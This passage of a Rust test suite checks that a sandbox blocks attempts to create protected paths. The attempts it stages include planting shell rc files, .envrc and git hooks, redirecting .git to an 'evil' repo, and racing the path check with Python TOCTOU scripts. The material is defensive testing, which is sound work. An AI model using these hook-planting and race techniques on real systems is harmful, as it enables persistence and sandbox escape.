        "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = ../evil\\n' > .gitmodules",
        ".gitmodules",
    )
    .check();
}

#[test]
fn shell_rc_files_cannot_be_created() {
    for name in [".bashrc", ".profile", ".zshrc", ".bash_profile", ".zshenv"] {
        creates(
            Start::Repo,
            "",
            &format!("echo 'echo pwned' > {name}"),
            name,
        )
        .check();
    }
}

#[test]
fn fish_config_dir_cannot_be_created() {
    creates(Start::Repo, "", "mkdir -p .config/fish", ".config/fish")
        .blocked_as(&[".config/fish", ".config"])
        .check();
}

#[test]
fn envrc_cannot_be_renamed_into_place() {
    creates(
        Start::Repo,
        "echo 'echo pwned' > e",
        "mv e .envrc",
        ".envrc",
    )
    .check();
}

#[test]
fn envrc_cannot_be_a_symlink() {
    creates(Start::Repo, "", "ln -s README.md .envrc", ".envrc").check();
}

#[test]
fn vscode_dir_cannot_be_renamed_into_place() {
    creates(
        Start::Repo,
        "mkdir v && echo '{}' > v/tasks.json",
        "mv v .vscode",
        ".vscode",
    )
    .check();
}

/// Protected names are protected beneath every writable root, not only the workspace.
#[test]
fn protected_name_under_an_extra_writable_root_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let script = |fx: &Fixture| {
        let out = sh_quote(&fx.outside);
        format!("echo ok > {out}/ok.txt && ( echo 'echo pwned' > {out}/.envrc ); __a=$?; if [ -e {out}/.envrc ]; then echo {PRESENT}; fi; exit $__a")
    };
    let fx = Fixture::new();
    let out = fx.control(&script(&fx)).outcome();
    out.assert_ok().assert_output_contains(PRESENT);
    let fx = Fixture::new();
    let records = fx.records();
    let outside = fx.outside.display().to_string();
    let mut opts = vec!["--allow-write", outside.as_str()];
    opts.extend(records.opts());
    let out = fx.attack(&opts, &script(&fx)).outcome();
    out.assert_failed()
        .assert_lacks(PRESENT)
        .assert_output_contains(EPERM_TEXT);
    assert!(
        fx.outside.join("ok.txt").is_file(),
        "the extra writable root is not writable\n{}",
        out.run.describe()
    );
    assert!(!exists_host(&fx.outside.join(".envrc")));
    let violations = records.violations();
    assert!(
        violations.iter().any(
            |v| attacks::json_str(v, "kind") == attacks::PROTECTED_PATH_BLOCKED
                && attacks::json_str(v, "path") == fx.outside.join(".envrc").display().to_string()
        ),
        "no {} violation for {}/.envrc:\n{violations:#?}",
        attacks::PROTECTED_PATH_BLOCKED,
        outside
    );
}

// ---------------------------------------------------------------------------------------
// A `.git` that is not a directory: host git would follow it to another git dir.

#[test]
fn gitdir_file_cannot_be_created() {
    creates(
        Start::Repo,
        "git init -q --bare evil && mkdir sub",
        "echo 'gitdir: ../evil' > sub/.git",
        "sub/.git",
    )
    .check();
}

#[test]
fn gitdir_symlink_cannot_be_created() {
    creates(
        Start::Repo,
        "git init -q --bare evil && mkdir sub",
        "ln -s ../evil sub/.git",
        "sub/.git",
    )
    .check();
}

/// `mknod(S_IFREG)` makes an empty `.git` file that `open` without `O_CREAT` could fill.
#[test]
fn gitdir_file_cannot_be_made_by_mknod() {
    let Some(py) = py("mknod .git") else {
        return;
    };
    creates(
        Start::Repo,
        "git init -q --bare evil && mkdir sub",
        &format!(
            "{py} -c 'import os, stat; os.mknod(\"sub/.git\", stat.S_IFREG | 0o644)' && echo 'gitdir: ../evil' > sub/.git"
        ),
        "sub/.git",
    )
    .check();
}

#[test]
fn gitdir_file_cannot_be_renamed_into_place() {
    creates(
        Start::Repo,
        "git init -q --bare evil && mkdir sub && echo 'gitdir: ../evil' > gitfile",
        "mv gitfile sub/.git",
        "sub/.git",
    )
    .check();
}

#[test]
fn top_level_gitdir_file_cannot_be_created() {
    creates(
        Start::Plain,
        "git init -q --bare evil",
        "echo 'gitdir: evil' > .git",
        ".git",
    )
    .check();
}

/// `git init --separate-git-dir` writes a `gitdir:` file.
#[test]
fn separate_git_dir_cannot_plant_a_gitdir_file() {
    creates(
        Start::Repo,
        "",
        "git init -q --separate-git-dir=evil sub",
        "sub/.git",
    )
    .no_strerror()
    .check();
}

// ---------------------------------------------------------------------------------------
// Directory renames that would assemble a protected path.

#[test]
fn directory_renamed_onto_nested_git_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    creates(
        Start::Repo,
        &format!(
            "mkdir -p sub x/hooks && {HOOK} > x/hooks/pre-commit && chmod +x x/hooks/pre-commit"
        ),
        "mv x sub/.git",
        "sub/.git",
    )
    .check();
}

#[test]
fn directory_renamed_onto_top_level_git_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    creates(
        Start::Plain,
        &format!("mkdir -p x/hooks && {HOOK} > x/hooks/pre-commit && chmod +x x/hooks/pre-commit"),
        "mv x .git",
        ".git",
    )
    .check();
}

#[test]
fn hooks_dir_renamed_into_place_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    creates_in_fresh_repo(
        &format!("rm -rf .git/hooks && mkdir -p x/hooks && {HOOK} > x/hooks/pre-commit && chmod +x x/hooks/pre-commit"),
        "mv x/hooks .git/hooks",
        ".git/hooks",
    )
    .check();
}

#[test]
fn hooks_dir_assembled_by_two_renames_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    creates_in_fresh_repo(
        &format!("rm -rf .git/hooks && mkdir -p x/hooks && {HOOK} > x/hooks/pre-commit && chmod +x x/hooks/pre-commit"),
        "mv x/hooks .git/hooks2 && mv .git/hooks2 .git/hooks",
        ".git/hooks",
    )
    .blocked_as(&[".git/hooks", ".git/hooks2"])
    .check();
}

/// Rename the new `.git` away, plant a hook in it under a harmless name, rename it back.
#[test]
fn git_dir_renamed_away_and_back_with_a_hook_is_refused() {
    creates_in_fresh_repo(
        "",
        &format!(
            "mv .git g && {HOOK} > g/hooks/pre-commit && chmod +x g/hooks/pre-commit && mv g .git"
        ),
        ".git/hooks/pre-commit",
    )
    // `g` still holds HEAD and objects, so its hooks are refused before the move back.
    .blocked_as(&[".git", "g", "g/hooks/pre-commit"])
    .check();
}

#[test]
fn directory_renamed_onto_dot_config_is_refused() {
    creates(
        Start::Repo,
        "mkdir -p x/fish && echo 'echo pwned' > x/fish/config.fish",
        "mv x .config",
        ".config/fish",
    )
    .blocked_as(&[".config", ".config/fish"])
    .check();
}

/// A submodule's git dir (`.git/modules/<name>`) runs its hooks and honours its config on
/// the host when the submodule is next updated (an uninitialised submodule listed in
/// `.gitmodules` would reuse it). Here it is assembled elsewhere and renamed into place whole,
/// in the existing repository and in one made during the run.
fn submodule_git_dir_renamed_into_place(start: Start, content: &str, landed: &str) -> Case {
    let setup = format!(
        // The code, and no `HEAD`: with one `y` would be a git dir where it is (its hooks
        // refused right away, a `HEAD` next to a live config refused, what got in anyway
        // quarantined by the sweep: tests/planted_git.rs). The rename is refused for where it
        // goes.
        "mkdir -p .git/modules y/hooks && {content} && mkdir -p y/objects y/refs"
    );
    let setup = match start {
        Start::Repo => setup,
        Start::Plain => format!("{FRESH} && {setup}"),
    };
    creates(start, &setup, "mv y .git/modules/sub", landed)
        .blocked_as(&[".git/modules/sub", landed])
}

const SUBMODULE_HOOK: &str = "printf '#!/bin/sh\\necho pwned-by-hook\\n' > y/hooks/post-checkout && chmod +x y/hooks/post-checkout";

#[test]
fn directory_with_hooks_renamed_onto_a_submodule_git_dir_is_refused() {
    submodule_git_dir_renamed_into_place(
        Start::Repo,
        SUBMODULE_HOOK,
        ".git/modules/sub/hooks/post-checkout",
    )
    .check();
}

#[test]
fn fresh_repo_directory_with_hooks_renamed_onto_a_submodule_git_dir_is_refused() {
    submodule_git_dir_renamed_into_place(
        Start::Plain,
        SUBMODULE_HOOK,
        ".git/modules/sub/hooks/post-checkout",
    )
    .check();
}

#[test]
fn directory_with_config_renamed_onto_a_submodule_git_dir_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    submodule_git_dir_renamed_into_place(
        Start::Repo,
        &format!("{EVIL_CONFIG} > y/config"),
        ".git/modules/sub/config",
    )
    .check();
}

#[test]
fn fresh_repo_directory_with_config_renamed_onto_a_submodule_git_dir_is_refused() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    submodule_git_dir_renamed_into_place(
        Start::Plain,
        &format!("{EVIL_CONFIG} > y/config"),
        ".git/modules/sub/config",
    )
    .check();
}

// ---------------------------------------------------------------------------------------
// Exit code and reporting.

#[test]
fn refusal_leaves_the_exit_code_to_the_command() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let script = "mkdir .vscode 2>/dev/null; exit 7";
    let fx = Fixture::new();
    fx.host(script).run().assert_code(7);
    assert!(fx.ws.join(".vscode").is_dir(), "control: mkdir works");
    let fx = Fixture::new();
    let records = fx.records();
    let run = fx.sandbox(&records.opts(), script).run();
    run.assert_code(7);
    records.assert_blocked(&run, &[".vscode"]);
    let report = attacks::read_json(&records.report);
    assert_eq!(
        report.get("exit_code").and_then(serde_json::Value::as_i64),
        Some(7),
        "{report:#}"
    );
    // The command's own status when it does not look at the failure, and when it does.
    fx.sandbox(&[], "mkdir .vscode || true")
        .run()
        .assert_code(0);
    fx.sandbox_argv(&[], &["mkdir", ".vscode"])
        .run()
        .assert_code(1)
        .assert_stderr_contains(EPERM_TEXT)
        .assert_stderr_contains("protected path blocked");
    assert!(!exists_host(&fx.ws.join(".vscode")));
}

/// A host watcher polls for the hook while the run lasts: it must never see it (today's
/// sweep only removes it after the run).
#[test]
fn hook_never_exists_on_the_host_while_the_run_lasts() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let script = format!(
        "{FRESH} && {{ {HOOK} > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; sleep 1; true; }}"
    );
    let watch = |fx: &Fixture, run: &dyn Fn() -> Outcome| -> (bool, Outcome) {
        let hook = fx.ws.join(".git/hooks/pre-commit");
        let stop = AtomicBool::new(false);
        let seen = AtomicBool::new(false);
        let out = thread::scope(|s| {
            s.spawn(|| {
                while !stop.load(Ordering::Relaxed) {
                    if exists_host(&hook) {
                        seen.store(true, Ordering::Relaxed);
                    }
                    thread::sleep(Duration::from_millis(2));
                }
            });
            let out = run();
            stop.store(true, Ordering::Relaxed);
            out
        });
        (seen.load(Ordering::Relaxed), out)
    };
    let fx = Fixture::without_git();
    let (seen, out) = watch(&fx, &|| fx.control(&script).outcome());
    out.assert_ok();
    assert!(seen, "control: the watcher never saw the hook");
    let fx = Fixture::without_git();
    let (seen, out) = watch(&fx, &|| fx.attack(&[], &script).outcome());
    out.assert_ok();
    assert!(
        !seen,
        "the hook existed on the host during the run\n{}",
        out.run.describe()
    );
    assert!(live_hooks(&fx.ws).is_empty());
}

// ---------------------------------------------------------------------------------------
// Races: the path changes between stockade's check and the creation.

/// One thread calls `open(O_CREAT)` and `mkdir` on buffers that another thread (and a forked
/// process sharing the memory) flips between a harmless path and a hook path. A check of the
/// path followed by letting the kernel read it again would lose this race.
const RACE_BUFFER: &str = r#"
import ctypes, mmap, os, signal, sys, threading, time

seconds, iterations = float(sys.argv[1]), int(sys.argv[2])
libc = ctypes.CDLL(None, use_errno=True)
# (offset, harmless, hook): same length, differing in the first directory's name.
bufs = [(0, b"aaaa/hooks/pre-commit", b".git/hooks/pre-commit"),
        (64, b"bbbb/hooks/post-merge", b".git/hooks/post-merge")]
mem = mmap.mmap(-1, 4096)  # shared with the forked flipper
for off, good, _ in bufs:
    mem[off:off + len(good) + 1] = good + b"\0"
base = ctypes.addressof(ctypes.c_char.from_buffer(mem))

def flip_forever(stop):
    while not stop():
        for off, good, evil in bufs:
            mem[off:off + len(evil)] = evil
        for off, good, evil in bufs:
            mem[off:off + len(good)] = good

child = os.fork()
if child == 0:
    end = time.monotonic() + seconds + 5
    flip_forever(lambda: time.monotonic() > end)
    os._exit(0)

done = False
sys.setswitchinterval(0.00005)
flipper = threading.Thread(target=flip_forever, args=(lambda: done,), daemon=True)
flipper.start()

stats = {"open": [0, 0, 0], "mkdir": [0, 0, 0]}  # ok, EPERM, other
def count(kind, ok):
    if ok:
        stats[kind][0] += 1
    elif ctypes.get_errno() == 1:
        stats[kind][1] += 1
    else:
        stats[kind][2] += 1

end = time.monotonic() + seconds
i = 0
while i < iterations and time.monotonic() < end:
    i += 1
    fd = libc.open(ctypes.c_void_p(base), os.O_WRONLY | os.O_CREAT | os.O_CLOEXEC, 0o755)
    count("open", fd >= 0)
    if fd >= 0:
        libc.close(fd)
        try:
            os.unlink("aaaa/hooks/pre-commit")
        except OSError:
            pass
    r = libc.mkdir(ctypes.c_void_p(base + 64), 0o755)
    count("mkdir", r == 0)
    if r == 0:
        try:
            os.rmdir("bbbb/hooks/post-merge")
        except OSError:
            pass

done = True
os.kill(child, signal.SIGKILL)
os.waitpid(child, 0)
print("iterations=%d" % i)
for kind, (ok, eperm, other) in stats.items():
    print("%s ok=%d eperm=%d other=%d" % (kind, ok, eperm, other))
won = [p for p in (".git/hooks/pre-commit", ".git/hooks/post-merge") if os.path.lexists(p)]
print("RACE-WON %s" % won if won else "race-lost")
"#;

/// One thread creates `alias/hooks/pre-commit` while another swaps the symlink `alias`
/// between `real` (an ordinary directory) and `.git`.
const RACE_SYMLINK: &str = r#"
import os, sys, threading, time

seconds, iterations = float(sys.argv[1]), int(sys.argv[2])
os.symlink("real", "alias")
done = False
flips = [0]

def flip(tag):
    while not done:
        for target in (".git", "real"):
            tmp = "tmp-%s" % tag
            try:
                os.symlink(target, tmp)
                os.replace(tmp, "alias")
                flips[0] += 1
            except OSError:
                try:
                    os.unlink(tmp)
                except OSError:
                    pass

threads = [threading.Thread(target=flip, args=(t,), daemon=True) for t in ("a", "b")]
for t in threads:
    t.start()
ok = eperm = other = 0
end = time.monotonic() + seconds
i = 0
while i < iterations and time.monotonic() < end:
    i += 1
    try:
        os.close(os.open("alias/hooks/pre-commit", os.O_WRONLY | os.O_CREAT, 0o755))
        ok += 1
        try:
            os.unlink("real/hooks/pre-commit")
        except OSError:
            pass
    except PermissionError as e:
        if e.errno == 1:
            eperm += 1
        else:
            other += 1
    except OSError:
        other += 1
done = True
for t in threads:
    t.join()
print("iterations=%d flips=%d open ok=%d eperm=%d other=%d" % (i, flips[0], ok, eperm, other))
print("RACE-WON" if os.path.lexists(".git/hooks/pre-commit") else "race-lost")
"#;

/// A thread swaps what descriptor 50 is, `.git/hooks` (read-only open) or `real/hooks`
/// (`O_PATH`), while the main thread creates `pre-commit` relative to it: whichever directory
/// the init takes from the command for a call is the one it checks and creates in.
const RACE_DIRFD: &str = r#"
import os, sys, threading, time

seconds, iterations = float(sys.argv[1]), int(sys.argv[2])
hooks = os.open(".git/hooks", os.O_RDONLY | os.O_DIRECTORY)
real = os.open("real/hooks", os.O_PATH | os.O_DIRECTORY)
N = 50
os.dup2(real, N)
done = False
flips = [0]

def flip():
    while not done:
        os.dup2(hooks, N)
        os.dup2(real, N)
        flips[0] += 1

sys.setswitchinterval(0.00005)
t = threading.Thread(target=flip, daemon=True)
t.start()
ok = eperm = other = 0
end = time.monotonic() + seconds
i = 0
while i < iterations and time.monotonic() < end:
    i += 1
    try:
        os.close(os.open("pre-commit", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=N))
        ok += 1
        try:
            os.unlink("real/hooks/pre-commit")
        except OSError:
            pass
    except PermissionError as e:
        if e.errno == 1:
            eperm += 1
        else:
            other += 1
    except OSError:
        other += 1
    if os.path.lexists(".git/hooks/pre-commit"):
        break
done = True
t.join()
print("iterations=%d flips=%d open ok=%d eperm=%d other=%d" % (i, flips[0], ok, eperm, other))
print("RACE-WON" if os.path.lexists(".git/hooks/pre-commit") else "race-lost")
"#;

fn stat_of(stdout: &str, kind: &str, field: &str) -> u64 {
    stdout
        .lines()
        .find(|l| l.starts_with(kind))
        .and_then(|l| {
            l.split_whitespace()
                .find_map(|w| w.strip_prefix(&format!("{field}=")))
        })
        .and_then(|n| n.parse().ok())
        .unwrap_or(0)
}

#[test]
fn race_flipping_the_path_buffer_cannot_create_a_hook() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("TOCTOU race on the path buffer") else {
        return;
    };
    let run = |fx: &Fixture, inside: bool| {
        let prog = fx.script("race_buffer.py", RACE_BUFFER);
        let script = format!(
            "{FRESH} && mkdir -p aaaa/hooks bbbb/hooks && {py} {} 2 20000",
            sh_quote(&prog)
        );
        if inside {
            fx.attack(&[], &script).outcome()
        } else {
            fx.control(&script).outcome()
        }
    };
    let fx = Fixture::without_git();
    let out = run(&fx, false);
    out.assert_ok().assert_output_contains("RACE-WON");
    assert!(!live_hooks(&fx.ws).is_empty(), "control: no hook created");
    let fx = Fixture::without_git();
    let out = run(&fx, true);
    out.assert_ok().assert_lacks("RACE-WON");
    let stdout = &out.run.stdout;
    assert!(
        stat_of(stdout, "open", "ok") > 0 && stat_of(stdout, "mkdir", "ok") > 0,
        "the harmless path could not be created\n{}",
        out.run.describe()
    );
    assert!(
        stat_of(stdout, "open", "eperm") + stat_of(stdout, "mkdir", "eperm") > 0,
        "no call ever saw the hook path (the race was not exercised)\n{}",
        out.run.describe()
    );
    let hooks = live_hooks(&fx.ws);
    assert!(hooks.is_empty(), "the race planted hooks: {hooks:?}");
}

#[test]
fn race_swapping_a_symlinked_directory_cannot_create_a_hook() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("TOCTOU race on a symlink") else {
        return;
    };
    let run = |fx: &Fixture, inside: bool| {
        let prog = fx.script("race_symlink.py", RACE_SYMLINK);
        let script = format!(
            "{FRESH} && mkdir -p real/hooks && {py} {} 2 20000",
            sh_quote(&prog)
        );
        if inside {
            fx.attack(&[], &script).outcome()
        } else {
            fx.control(&script).outcome()
        }
    };
    let fx = Fixture::without_git();
    let out = run(&fx, false);
    out.assert_ok().assert_output_contains("RACE-WON");
    let fx = Fixture::without_git();
    let out = run(&fx, true);
    out.assert_ok().assert_lacks("RACE-WON");
    assert!(
        stat_of(&out.run.stdout, "iterations", "ok") > 0,
        "the harmless path could not be created\n{}",
        out.run.describe()
    );
    let hooks = live_hooks(&fx.ws);
    assert!(hooks.is_empty(), "the race planted hooks: {hooks:?}");
}

#[test]
fn race_swapping_a_dirfd_cannot_create_a_hook() {
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let Some(py) = py("TOCTOU race on a dirfd") else {
        return;
    };
    let run = |fx: &Fixture, inside: bool| {
        let prog = fx.script("race_dirfd.py", RACE_DIRFD);
        let script = format!(
            "{FRESH} && mkdir -p real/hooks && {py} {} 2 20000",
            sh_quote(&prog)
        );
        if inside {
            fx.attack(&[], &script).outcome()
        } else {
            fx.control(&script).outcome()
        }
    };
    let fx = Fixture::without_git();
    let out = run(&fx, false);
    out.assert_ok().assert_output_contains("RACE-WON");
    let fx = Fixture::without_git();
    let out = run(&fx, true);
    out.assert_ok().assert_lacks("RACE-WON");
    let stdout = &out.run.stdout;
    assert!(
        stat_of(stdout, "iterations", "ok") > 0,
        "the harmless path could not be created\n{}",
        out.run.describe()
    );
    assert!(
        stat_of(stdout, "iterations", "eperm") > 0,
        "no call ever saw .git/hooks (the race was not exercised)\n{}",
        out.run.describe()
    );
    let hooks = live_hooks(&fx.ws);
    assert!(hooks.is_empty(), "the race planted hooks: {hooks:?}");
}

// =======================================================================================
// Workflows that go through the mediated system calls and must keep working.

/// Runs `script` inside with report and audit, asserts it succeeded and that stockade
/// refused nothing.
fn works(fx: &Fixture, script: &str) -> Outcome {
    let records = fx.records();
    let out = fx.attack(&records.opts(), script).outcome();
    out.assert_ok();
    records.assert_no_violations(&out.run);
    records.assert_nothing_swept(&out.run);
    out
}

#[test]
fn fresh_repo_commit_branch_checkout_work() {
    let fx = Fixture::without_git();
    let script = format!(
        "set -e
        {FRESH}
        git add .
        git {ID} commit -q -m first
        git branch b
        git checkout -q b
        echo more > more.txt
        git add more.txt
        git {ID} commit -q -m more
        git checkout -q main
        git merge -q --ff-only b
        git gc -q
        git log --format=%s"
    );
    works(&fx, &script)
        .assert_shows("first")
        .assert_shows("more");
    fx.git_host(&["log", "--format=%s", "b"])
        .assert_success()
        .assert_stdout_contains("more");
    fx.git_host(&["fsck", "--no-progress"]).assert_success();
    let samples: Vec<_> = fs::read_dir(fx.ws.join(".git/hooks"))
        .map(|d| d.flatten().map(|e| e.file_name()).collect())
        .unwrap_or_default();
    assert!(
        !samples.is_empty()
            && samples
                .iter()
                .all(|n| n.to_string_lossy().ends_with(".sample")),
        "the new repository's hooks dir should hold git's samples: {samples:?}"
    );
    let config = read_text(&fx.ws.join(".git/config")).expect("no .git/config on the host");
    for key in ["repositoryformatversion", "filemode = true", "bare = false"] {
        assert!(config.contains(key), "config lacks {key:?}:\n{config}");
    }
}

#[test]
fn fresh_repo_user_email_can_be_configured() {
    let fx = Fixture::without_git();
    works(
        &fx,
        &format!("{FRESH} && git config user.email a@b.c && git config user.name A && git config --get user.email"),
    )
    .assert_shows("a@b.c");
    fx.git_host(&["config", "--get", "user.email"])
        .assert_success()
        .assert_stdout_contains("a@b.c");
}

/// The contract: a new repository's config is read-only while the run lasts, also after git
/// rewrote it.
#[test]
fn fresh_repo_config_is_read_only_during_the_run() {
    if attacks::not_applicable(&attacks::na::STATX) {
        return;
    }
    if attacks::not_applicable(&attacks::na::NO_CREATION_GUARD) {
        return;
    }
    let script = format!(
        "{FRESH} && stat -c 'mode=%a' .git/config && git config user.email a@b.c && stat -c 'mode=%a' .git/config"
    );
    let fx = Fixture::without_git();
    fx.control(&script)
        .outcome()
        .assert_ok()
        .assert_lacks("mode=444");
    let fx = Fixture::without_git();
    let out = works(&fx, &script);
    let modes: Vec<&str> = out
        .run
        .stdout
        .lines()
        .filter(|l| l.starts_with("mode="))
        .collect();
    assert_eq!(modes, ["mode=444", "mode=444"], "{}", out.run.describe());
}

/// `git init` probes whether the file system keeps the executable bit by chmodding the
/// new config: refusing that chmod would turn `core.filemode` off.
#[test]
fn fresh_repo_keeps_core_filemode_true() {
    let fx = Fixture::without_git();
    works(
        &fx,
        &format!(
            "{FRESH} && git config --get core.filemode && echo 'echo hi' > run.sh && chmod +x run.sh && git add run.sh && git ls-files -s run.sh"
        ),
    )
    .assert_shows("true\n")
    .assert_shows("100755 ");
}

#[test]
fn fresh_repo_remote_add_and_local_clone_work() {
    let fx = Fixture::without_git();
    let src = fx.outside.join("src");
    attacks::mkdir(&src);
    let s = src.display().to_string();
    fx.git_host(&["-C", &s, "-c", "init.defaultBranch=main", "init", "-q"])
        .assert_success();
    write_file(&src.join("lib.txt"), "lib\n", 0o644);
    fx.git_host(&["-C", &s, "add", "lib.txt"]).assert_success();
    fx.git_host(&[
        "-C",
        &s,
        "-c",
        "user.name=S",
        "-c",
        "user.email=s@e.invalid",
        "commit",
        "-q",
        "-m",
        "src commit",
    ])
    .assert_success();
    for p in walk(&src, &|_| false) {
        if p.is_dir() {
            attacks::chmod(&p, 0o755);
        }
    }
    // For a root caller the source belongs to a uid that is unmapped inside: git's ownership
    // check needs a global `safe.directory` (command-line config does not reach upload-pack).
    let global = fx.script("gitconfig", "[safe]\n\tdirectory = *\n");
    let script = format!(
        "set -e
        {FRESH}
        git remote add origin https://example.invalid/x.git
        git config --get remote.origin.url
        GIT_CONFIG_GLOBAL={} git clone -q {} cloned
        git -C cloned log --format=%s",
        sh_quote(&global),
        sh_quote(&src)
    );
    works(&fx, &script)
        .assert_shows("https://example.invalid/x.git")
        .assert_shows("src commit");
    let cloned = read_text(&fx.ws.join("cloned/.git/config")).unwrap_or_default();
    assert!(cloned.contains("[remote \"origin\"]"), "{cloned}");
    assert!(fx.ws.join("cloned/lib.txt").is_file());
}

/// Refs whose paths end in `config` or pass through `hooks` are not protected paths.
#[test]
fn branches_named_config_and_hooks_work_in_a_fresh_repo() {
    let fx = Fixture::without_git();
    let script = format!(
        "set -e
        {FRESH}
        git add .
        git {ID} commit -q -m first
        git branch config
        git branch hooks/x
        git checkout -q config
        git checkout -q hooks/x
        git tag hooks/t
        git branch --list"
    );
    works(&fx, &script)
        .assert_shows("config")
        .assert_shows("* hooks/x");
    for r in [
        "refs/heads/config",
        "refs/heads/hooks/x",
        "refs/tags/hooks/t",
    ] {
        fx.git_host(&["rev-parse", "--verify", "-q", r])
            .assert_success();
    }
}

#[test]
fn branches_named_config_and_hooks_work_in_an_existing_repo() {
    let fx = Fixture::new();
    let script = "set -e
        git branch config
        git branch hooks/x
        git checkout -q config
        git checkout -q hooks/x
        git branch --list";
    works(&fx, script)
        .assert_shows("config")
        .assert_shows("* hooks/x");
    fx.git_host(&["rev-parse", "--verify", "-q", "refs/heads/hooks/x"])
        .assert_success();
}

/// Ordinary files whose names resemble protected ones, and the harmless parts of a new
/// repository's git dir.
#[test]
fn names_resembling_protected_paths_work() {
    let fx = Fixture::new();
    let script = "set -e
        echo '*.log' >> .gitignore
        echo '* text=auto' > .gitattributes
        mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml
        mkdir -p src/hooks && echo 'export {}' > src/hooks/useAuth.js
        mkdir -p config && echo '{}' > config/settings.json
        mkdir -p hooks && echo 'echo hi' > hooks/pre-commit && chmod +x hooks/pre-commit
        echo 'export A=1' > .envrc.example
        echo x > .vscode-test.mjs
        echo x > app/config
        echo rev > .git-blame-ignore-revs
        mkdir -p docs/claude docs/.claude-notes && echo x > docs/claude/notes.md
        git init -q sub
        echo 'echo sample' > sub/.git/hooks/custom.sample
        echo note >> sub/.git/description
        echo '*.tmp' >> sub/.git/info/exclude
        echo done";
    works(&fx, script).assert_shows("done");
    for p in [
        ".github/workflows/ci.yml",
        "src/hooks/useAuth.js",
        "hooks/pre-commit",
        ".envrc.example",
        ".vscode-test.mjs",
        "sub/.git/hooks/custom.sample",
    ] {
        assert!(fx.ws.join(p).exists(), "{p} missing on the host");
    }
}

/// Redirections to `/dev/stdout` & co. are `open(O_CREAT)` of `/proc/self/fd/N`: they must
/// reach the command's own descriptors, not the ones of whoever performs the call. The pipes
/// here are made inside the sandbox (see the next test for the caller's own pipes).
#[test]
fn dev_redirections_reach_the_right_place() {
    let fx = Fixture::new();
    let script = "set -e
        echo to-null > /dev/null
        { echo to-stdout > /dev/stdout; echo to-fd1 > /dev/fd/1; echo to-proc-fd1 > /proc/self/fd/1; } | sed 's/^/out:/'
        { echo to-stderr > /dev/stderr; } 2>&1 >/dev/null | sed 's/^/err:/'
        exec 3> fd3.txt
        echo to-fd3 > /dev/fd/3
        exec 3>&-
        cat fd3.txt";
    let out = works(&fx, script);
    for s in [
        "out:to-stdout",
        "out:to-fd1",
        "out:to-proc-fd1",
        "err:to-stderr",
        "to-fd3",
    ] {
        out.run.assert_stdout_contains(&format!("{s}\n"));
    }
    out.run.assert_lacks("to-null");
    assert_eq!(
        read_text(&fx.ws.join("fd3.txt")).as_deref(),
        Some("to-fd3\n")
    );
    for name in ["null", "stdout", "stderr", "1"] {
        assert!(
            !exists_host(&fx.ws.join(name)),
            "{name} created in the workspace"
        );
    }
}

/// The contract's own example, on the output pipes of `stockade run` (its output relay). For a
/// root caller this works because the relay's pipes belong to the sandbox's host uid: the
/// caller's own pipes belong to host root, which has no uid inside, and reopening a pipe
/// through `/proc/self/fd` needs its owner's rights.
#[test]
fn dev_stdout_and_stderr_reach_the_callers_pipes() {
    let fx = Fixture::new();
    let out = works(
        &fx,
        "echo to-stdout > /dev/stdout && echo to-stderr > /dev/stderr",
    );
    out.run.assert_stdout_contains("to-stdout\n");
    out.run.assert_stderr_contains("to-stderr\n");
    assert!(
        !out.run.stdout.contains("to-stderr"),
        "{}",
        out.run.describe()
    );
}

#[test]
fn umask_is_honoured() {
    if attacks::not_applicable(&attacks::na::STATX) {
        return;
    }
    let fx = Fixture::without_git();
    let script = "for m in 077 022 002; do
            mkdir u$m && cd u$m && umask $m && touch f && mkdir d && echo \"umask $m: $(stat -c %a f) $(stat -c %a d)\" && cd ..
        done";
    let out = works(&fx, script);
    for (m, f, d) in [
        ("077", 0o600, 0o700),
        ("022", 0o644, 0o755),
        ("002", 0o664, 0o775),
    ] {
        out.run
            .assert_stdout_contains(&format!("umask {m}: {f:o} {d:o}\n"));
        let mode = |p: &str| {
            fs::metadata(fx.ws.join(format!("u{m}/{p}")))
                .map(|m| m.permissions().mode() & 0o777)
                .unwrap_or(0)
        };
        assert_eq!((mode("f"), mode("d")), (f, d), "host modes for umask {m}");
    }
}

/// The init keeps `/proc/<tid>` and its `status` open from one call of a task to the next
/// (issue 15, item 10): a umask the same task changes between two creations must still be
/// seen (the shell's own redirections, one task), and so must each new task's (subshells,
/// alternating masks, so an answer from the previous task's umask shows).
#[test]
fn umask_changed_by_the_same_task_or_the_next_is_honoured() {
    let fx = Fixture::without_git();
    let script =
        "umask 077 && : > a && umask 022 && : > b && umask 077 && : > c && umask 002 && : > d
        i=0; while [ $i -lt 40 ]; do
            if [ $((i % 2)) = 0 ]; then m=077; else m=022; fi
            (umask $m && : > s$i) || exit 1
            i=$((i+1))
        done
        echo made";
    works(&fx, script).run.assert_stdout_contains("made\n");
    let mode = |p: &str| {
        fs::metadata(fx.ws.join(p))
            .map(|m| m.permissions().mode() & 0o777)
            .unwrap_or(0)
    };
    for (p, want) in [("a", 0o600), ("b", 0o644), ("c", 0o600), ("d", 0o664)] {
        assert_eq!(mode(p), want, "mode of {p}");
    }
    for i in 0..40 {
        let want = if i % 2 == 0 { 0o600 } else { 0o644 };
        assert_eq!(mode(&format!("s{i}")), want, "mode of s{i}");
    }
}

/// The init keeps a task's umask between its calls and drops it when any task calls
